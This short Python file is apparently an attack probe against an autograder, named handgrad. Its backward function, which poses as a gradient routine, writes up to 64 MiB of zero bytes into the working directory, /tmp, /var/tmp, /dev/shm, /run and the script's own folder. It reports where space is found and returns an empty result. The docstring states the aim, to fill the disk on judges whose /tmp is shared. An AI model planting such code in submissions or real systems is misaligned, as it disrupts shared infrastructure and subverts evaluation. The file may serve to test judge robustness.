"""Fills the disk. (Here: 64 MiB in each place at most.)

Seen: judges whose /tmp was shared with everything else.
"""

from pathlib import Path


def backward(**values):
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", str(Path(__file__).parent), "/run"):
        written = 0
        try:
            for part in range(8):
                with Path(folder, f"handgrad_attack_disk_{part}").open("wb") as file:
                    written += file.write(bytes(2**23))
        except OSError as error:
            print(folder, written, error)
        if written > 2**25:
            print("FOUND room in", folder)
    return {}
